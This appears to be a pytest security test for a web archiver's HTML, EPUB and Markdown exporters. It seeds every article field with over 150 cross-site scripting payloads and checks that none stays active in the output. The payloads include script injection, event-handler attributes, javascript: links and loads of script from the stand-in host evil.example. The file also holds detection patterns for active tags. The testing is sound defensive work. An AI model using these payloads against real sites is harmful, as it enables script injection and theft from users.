"""Words that would be a program if anything took them for one, in every field, in every form."""

from __future__ import annotations

import itertools
import re
from html import escape
from pathlib import Path
from zipfile import ZipFile

import lxml.html
import pytest
from lxml import etree
from markdown_it import MarkdownIt

from boredcrawl import items
from boredcrawl.db.engine import open_database
from boredcrawl.db.selecting import read_whole, select_articles
from boredcrawl.db.store import Store
from boredcrawl.exports.epub import write_epub
from boredcrawl.exports.markdown import write_markdown
from boredcrawl.exports.site import write_site

TAGS = ("img", "svg", "body", "video", "audio", "input", "details", "iframe", "a", "math", "object")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "OnClick")
ENDS = (">", "/>", " x=\"'>")
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
)
WHOLE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`</code><script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
)
PAYLOADS = (
    *WHOLE,
    *(f"<{t} src=x {e}=alert(1){z}" for t, e, z in itertools.product(TAGS, EVENTS, ENDS[:2])),
    *(f"<{t} {e}=alert(1) autofocus{ENDS[2]}" for t, e in itertools.product(TAGS, EVENTS)),
    *(f'<a href="{scheme}">x</a>' for scheme in SCHEMES),
    *(f'<img src="{scheme}">' for scheme in SCHEMES),
)
ACTIVE = {
    *("script", "style", "iframe", "object", "embed", "form", "base", "svg", "math", "template"),
    *("input", "button", "video", "audio", "details", "body", "noscript"),
}
OPEN_SCHEME = re.compile(r"[\x00-\x20]*(?:javascript|data|vbscript)[\s]*:", re.IGNORECASE)


def dangers(root):
    """Name what in a piece of a page would act."""
    for element in root.iter(etree.Element):
        if etree.QName(element).localname.lower() in ACTIVE:
            yield element.tag
        for name, value in element.attrib.items():
            bare = re.sub(r"[\t\n\r]", "", value)
            if name.lower().startswith("on") or name == "style" or OPEN_SCHEME.match(bare):
                yield f"{name}={value}"


@pytest.fixture
def hostile(tmp_path, make_article):
    """An archive whose every text is hostile, as if nothing before had cleaned it."""
    engine = open_database(f"sqlite:///{tmp_path / 'hostile.db'}")
    assert len(PAYLOADS) >= 150
    visits = []
    for number, payload in enumerate(PAYLOADS):
        picture = items.Image(url=f"https://x.example/{payload}", alt=payload, caption=payload)
        visits.append(
            make_article(
                f"hostile-{number}",
                number,
                title=payload,
                description=payload,
                highlights=(payload,),
                body_html=f"<p>{escape(payload)}</p>{payload}<p>after</p>",
                body_text=payload,
                section=payload,
                authors=(items.Author(name=payload, url=payload),),
                images=(picture,),
                list_items=(items.ListItem(position=0, title=payload, text=payload),),
                tags=(items.Tag(name=payload),),
                comments=(
                    items.Comment(
                        commenter=items.Commenter(name=payload, url=payload),
                        text=payload,
                        html=payload,
                        identity="1",
                    ),
                ),
            )
        )
    Store(engine).save(visits)
    yield lambda: read_whole(engine, select_articles(engine))
    engine.dispose()


def test_static_pages_are_inert(hostile, tmp_path):
    write_site(hostile(), tmp_path / "site", None)
    pages = list((tmp_path / "site").glob("*.html"))
    found = {}
    for page in pages:
        text = page.read_text(encoding="utf-8")
        head, _, rest = text.partition("<body>")
        body = rest.rpartition("</body>")[0]
        found[page.name] = [
            *dangers(lxml.html.fragment_fromstring(body, create_parent="div")),
            *(tag for tag in ("<script", "<style", "<base") if tag in head),
        ]

    assert len(pages) == len(PAYLOADS) + 1
    assert {name: what for name, what in found.items() if what} == {}


def test_books_are_inert(hostile, tmp_path):
    write_epub(hostile(), tmp_path / "book.epub", None, "<script>alert(1)</script>")
    with ZipFile(tmp_path / "book.epub") as book:
        names = [name for name in book.namelist() if name.endswith((".xhtml", ".opf"))]
        found = {
            name: [
                what
                for what in dangers(etree.fromstring(book.read(name)))
                if not what.endswith("}body")
            ]
            for name in names
        }

    assert len(names) == len(PAYLOADS) + 2
    assert {name: what for name, what in found.items() if what} == {}


def test_markdown_is_inert_where_html_is_let_through(hostile, tmp_path):
    write_markdown(hostile(), tmp_path / "notes", None)
    reader = MarkdownIt("commonmark", {"html": True})
    found = {}
    for file in Path(tmp_path / "notes").glob("*.md"):
        _, _, text = file.read_text(encoding="utf-8").partition("\n---\n")
        page = reader.render(text)
        if page.strip():
            root = lxml.html.fragment_fromstring(page, create_parent="div")
            found[file.name] = list(dangers(root))

    assert len(found) == len(PAYLOADS)
    assert {name: what for name, what in found.items() if what} == {}
